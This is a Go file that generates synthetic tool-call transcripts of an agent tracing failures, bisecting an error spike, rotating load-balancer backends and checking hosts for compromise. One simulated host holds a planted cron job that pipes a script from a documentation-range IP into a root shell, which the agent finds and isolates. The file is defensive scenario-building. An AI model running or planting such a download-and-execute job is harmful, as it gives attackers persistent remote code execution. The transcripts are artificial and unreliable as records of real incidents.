package splice

import (
	"fmt"
	"strings"
	"time"
)

// The lookalikes of this file are honest work of agents on call, which ask many places the same question.

func incidentLookalikes() []kind {
	return []kind{
		{name: "trace_followed_through_services", build: traceFollowedThroughServices},
		{name: "onset_narrowed", build: onsetNarrowed},
		{name: "backends_taken_out_in_turn", build: backendsTakenOutInTurn},
		{name: "hosts_examined_for_intrusion", build: hostsExaminedForIntrusion},
	}
}

// traceFollowedThroughServices looks up one trace in the logs of service after service, each of which names the next.
func traceFollowedThroughServices(p *generator) (entries []entry, _ int) {
	trace, at := fmt.Sprintf("%016x%016x", p.Uint64(), p.Uint64()), time.Date(2026, time.June, p.between(1, 28), p.IntN(24), p.IntN(60), p.IntN(60), 0, time.UTC)
	failed, services := at.Add(time.Duration(p.between(5000, 6000))*time.Millisecond), p.distinct(p.between(7, 12))
	said := thought{next: "I'll follow the trace from the edge."}
	for k, service := range services {
		var lines []string
		line := func(at time.Time, level, text string) {
			lines = append(lines, fmt.Sprintf("%s %-5s [%s] %s", at.Format("2006-01-02T15:04:05.000Z"), level, service, text))
		}
		soon := func() time.Time {
			at = at.Add(time.Duration(p.between(2, 90)) * time.Millisecond)
			return at
		}
		line(soon(), "INFO", fmt.Sprintf("%s /v%d/%s trace=%s", p.pick("GET", "POST"), p.between(1, 3), p.word(), trace))
		if p.coin() {
			line(soon(), "DEBUG", "cache miss key="+p.word()+":"+fmt.Sprint(p.between(100, 99_999)))
		}
		next := thought{seen: p.pick("This one only passes it on.", "Not the cause.", "It only forwards the call.")}
		if k < len(services)-1 {
			line(soon(), "INFO", "calling "+services[k+1])
			line(failed.Add(time.Duration(4*(len(services)-k))*time.Millisecond), "WARN", "upstream "+services[k+1]+" answered 503")
			next.next = fmt.Sprintf(p.pick("It calls %s.", "Next hop: %s.", "On to %s."), services[k+1])
		} else {
			line(failed, "ERROR", p.pick("connection pool exhausted: 50 of 50 in use", "deadline exceeded while reading from shard 3", "no healthy broker for topic payments"))
		}
		entries = append(entries, call("search_logs", object("service", service, "query", "trace="+trace, "limit", 20), object("service", service, "hits", len(lines), "lines", lines)).after(said))
		said = next
	}
	return entries, 0
}

// onsetNarrowed asks for the rate of errors at one moment after the other, to find the minute in which it rose.
func onsetNarrowed(p *generator) (entries []entry, _ int) {
	service := p.word() + "-api"
	from := time.Date(2026, time.June, p.between(1, 27), p.IntN(24), 0, 0, 0, time.UTC)
	to := from.Add(time.Duration(p.between(16, 30)) * time.Hour)
	rise := from.Add(time.Duration(p.Int64N(int64(to.Sub(from)))))
	expr := fmt.Sprintf("100 * sum(rate(http_requests_total{service=%q,code=~\"5..\"}[1m])) / sum(rate(http_requests_total{service=%q}[1m]))", service, service)
	said := thought{next: "Errors are high now and were not yesterday. I'll narrow down when it began."}
	for to.Sub(from) > 3*time.Minute {
		middle := from.Add(to.Sub(from) / 2).Truncate(time.Minute)
		rate := p.between(1, 6)
		if middle.After(rise) {
			to, rate = middle, p.between(1080, 1290)
		} else {
			from = middle
		}
		entries = append(entries, call("query_prometheus", object("expr", expr, "time", middle.Format(time.RFC3339)), object("status", "success", "data", []string{fmt.Sprintf("{} => %d.%02d @[%d]", rate/100, rate%100, middle.Unix())})).after(said))
		said = thought{fmt.Sprintf("At %s it was %d.%02d percent.", middle.Format("15:04"), rate/100, rate%100), fmt.Sprintf("It began between %s and %s.", from.Format("15:04"), to.Format("15:04"))}
	}
	return append(entries, call("list_deployments", object("from", from.Format(time.RFC3339), "to", to.Format(time.RFC3339)), object("deployments", []string{fmt.Sprintf("%s %s-config r%d by renovate", rise.Format("15:04:05"), service, p.between(200, 900))})).after(thought{said.seen, "That is narrow enough. What was deployed then?"})), 0
}

// backendsTakenOutInTurn takes server after server out of a pool and puts it back, until the errors stop without one of them.
func backendsTakenOutInTurn(p *generator) (entries []entry, _ int) {
	run, pool, clock := p.commands(), p.word()+"_pool", p.passingTime()
	service, count, rate := strings.TrimSuffix(pool, "_pool"), p.between(6, 9), p.between(180, 900)
	bad := p.between(3, count-1)
	socket := func(command, server string) string {
		return fmt.Sprintf("echo \"%s server %s/%s\" | socat stdio /run/haproxy/admin.sock", command, pool, server)
	}
	said := thought{next: "One of the servers may be bad. I'll take them out in turn."}
	for k := range bad + 1 {
		server := fmt.Sprintf("app%02d", k+1)
		entries = append(entries, run(socket("disable", server)+" && sleep 120", "", 0).after(said))
		if k == bad {
			entries = append(entries, errorRate(service, p.between(0, 4), clock()).after(thought{next: "How is the error rate without " + server + "?"}))
			return append(entries, run("ssh "+server+" 'df -h / | tail -n 1; uptime'", fmt.Sprintf("/dev/vda1        40G   40G     0 100%% /\n 14:%02d:11 up 211 days,  3:02,  0 users,  load average: 0.41, 0.38, 0.40", p.IntN(60)), 0).after(thought{"The errors are gone. It is " + server + ".", "I'll leave it out and look at it."})), 0
		}
		entries = append(entries,
			errorRate(service, rate+p.between(-40, 40), clock()).after(thought{next: p.pick("How is the error rate without "+server+"?", "Do the errors stop?", "Check the errors without it.")}),
			run(socket("enable", server), "", 0).after(thought{"No difference without " + server + ".", p.pick("Put it back.", "Back with it.", "It can serve again.")}))
		said = thought{server + " isn't it.", fmt.Sprintf(p.pick("Next, app%02d.", "Now app%02d.", "Then app%02d."), k+2)}
	}
	return entries, 0
}

// hostsExaminedForIntrusion asks host after host for the traces of an intrusion; most have none.
func hostsExaminedForIntrusion(p *generator) (entries []entry, _ int) {
	run, count, role := p.patientShell(), p.between(5, 8), p.pick("web", "db", "build", "mail")
	sum := func() string {
		return fmt.Sprintf("%016x%016x%016x%016x", p.Uint64(), p.Uint64(), p.Uint64(), p.Uint64())
	}
	clean, hit, said := sum(), p.between(1, count-1), p.nextItem("", role+"-01")
	login := func(hour string) string {
		minute, length := p.IntN(20), p.between(1, 39)
		return fmt.Sprintf("deploy   pts/0        10.0.0.%d         %s:%02d - %s:%02d  (00:%02d)", p.between(2, 9), hour, minute, hour[len(hour)-2:], minute+length, length)
	}
	for k := range count {
		host, hash := fmt.Sprintf("%s-%02d", role, k+1), clean
		cron, found := "e2scrub_all\nlogrotate", thought{"The program is the packaged one.", p.pick("Its jobs.", "Now cron.", "And scheduled jobs?")}
		if k == hit {
			hash, cron, found = sum(), "e2scrub_all\nlogrotate\n.sysd-update", thought{"This sum is another one!", "Let me see its jobs."}
		}
		entries = append(entries,
			run("ssh "+host+" sha256sum /usr/sbin/sshd", hash+"  /usr/sbin/sshd", 0).after(said),
			run("ssh "+host+" ls -A /etc/cron.d", cron, 0).after(found),
			run("ssh "+host+" 'last -n 2 -i | head -n 2'", login("Mon Jun 22 13")+"\n"+login("Fri Jun 19 08"), 0).after(thought{next: p.pick("Who was on it?", "And the logins.", "Last logins.")}))
		said = p.nextItem(host, fmt.Sprintf("%s-%02d", role, k+2))
		if k == hit {
			entries = append(entries,
				run("ssh "+host+" cat /etc/cron.d/.sysd-update", fmt.Sprintf("*/10 * * * * root curl -fsSL http://198.51.100.%d/u.sh | sh", p.between(2, 250)), 0).after(thought{"There is a job that does not belong there.", "What does it do?"}),
				call("isolate_host", object("host", host, "reason", "unknown sshd and cron job"), object("host", host, "state", "isolated")).after(thought{"That host is compromised.", "I'll isolate it before I go on."}))
			said = thought{host + " is isolated.", fmt.Sprintf("Now %s-%02d.", role, k+2)}
		}
	}
	return entries, 0
}
